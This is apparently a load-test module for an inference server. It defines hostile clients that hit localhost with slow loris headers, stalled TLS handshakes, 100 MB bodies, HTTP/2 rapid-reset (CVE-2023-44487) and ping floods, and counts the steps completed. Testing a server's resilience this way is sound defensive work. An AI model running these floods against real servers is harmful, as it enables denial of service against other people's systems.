"""Hostile clients, each in a process of its own: `python -m loadtests.bench.load.attackers KIND HTTP_PORT GRPC_PORT SECONDS`.

They pause between their steps, so that honest clients feel the server's work for the attack and not the attacker's use of the machine. All
speak TLS and trust any certificate, because they are not clients to protect. Prints how many steps were done."""

import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from typing import Final

from serving.doors.http2.frames import HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame
from serving.doors.http2.hpack import encode

HOST: Final = "127.0.0.1"
CONNECTIONS: Final = 400
PAUSE_S: Final = 0.01
PATIENCE_S: Final = 2.0
"""How long one step may take."""
_BLOCK: Final = encode(
    [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
)


def _trust() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def _open(port: int, *, is_secured: bool = True) -> socket.socket:
    sock = socket.create_connection((HOST, port), timeout=PATIENCE_S)
    return _trust().wrap_socket(sock, server_hostname="localhost") if is_secured else sock


def slow_heads(http_port: int, _: int) -> Iterator[None]:
    """Send heads that never end, one byte at a time, on many connections (slow loris)."""
    opened = []
    for _index in range(CONNECTIONS):
        with suppress(OSError):  # a server may turn some away
            sock = _open(http_port)
            sock.sendall(b"GET / HTTP/1.1\r\nhost: x\r\nx: ")
            opened.append(sock)
        yield
    while opened:
        for sock in opened:
            with suppress(OSError):
                sock.sendall(b"y")
            yield


def unfinished_handshakes(http_port: int, _: int) -> Iterator[None]:
    """Begin a handshake on many connections and never finish it."""
    opened: list[socket.socket] = []
    while True:
        with suppress(OSError):
            sock = _open(http_port, is_secured=False)
            sock.sendall(b"\x16\x03\x01\x02\x00\x01")
            opened.append(sock)
        if len(opened) > 4 * CONNECTIONS:
            opened.pop(0).close()
        yield


def handshakes(http_port: int, _: int) -> Iterator[None]:
    """Do full handshakes, one after another, and send no request."""
    while True:
        with suppress(OSError):
            _open(http_port).close()
        yield


def large_bodies(http_port: int, _: int) -> Iterator[None]:
    """Send bodies of 100 MB."""
    piece = b"x" * 65_536
    while True:
        with suppress(OSError), _open(http_port) as sock:
            sock.sendall(b"POST /v2/models/x/infer HTTP/1.1\r\nhost: x\r\ncontent-length: 100000000\r\n\r\n")
            for _index in range(1600):
                sock.sendall(piece)
        yield


def rapid_resets(_: int, grpc_port: int) -> Iterator[None]:
    """Open calls and cancel them at once (CVE-2023-44487)."""
    yield from _flood(
        grpc_port, lambda n: frame(HEADERS, 4, n, len(_BLOCK)) + _BLOCK + frame(RST_STREAM, 0, n, 4) + b"\0\0\0\x08"
    )


def pings(_: int, grpc_port: int) -> Iterator[None]:
    """Send pings and nothing else (CVE-2019-9512)."""
    yield from _flood(grpc_port, lambda _number: frame(PING, 0, 0, 8) + b"12345678")


def _flood(port: int, one: Callable[[int], bytes]) -> Iterator[None]:
    while True:
        with suppress(OSError), _open(port) as sock:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0, 0))
            number = 1
            while True:
                sock.sendall(b"".join(one(number + 2 * index) for index in range(200)))
                number += 400
                yield
                sock.setblocking(False)
                with suppress(BlockingIOError, ssl.SSLWantReadError):
                    while sock.recv(1 << 16):
                        pass
                    break  # it was closed
                sock.settimeout(PATIENCE_S)
        yield


ATTACKS: Final[Mapping[str, Callable[[int, int], Iterator[None]]]] = {
    attack.__name__: attack for attack in (slow_heads, unfinished_handshakes, handshakes, large_bodies, rapid_resets, pings)
}


def main(arguments: list[str]) -> int:
    """Attack for the given number of seconds."""
    kind, http_port, grpc_port, seconds = arguments
    steps, end = 0, time.monotonic() + float(seconds)
    for _step in ATTACKS[kind](int(http_port), int(grpc_port)):
        steps += 1
        if time.monotonic() > end:
            break
        time.sleep(PAUSE_S)
    print(steps)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
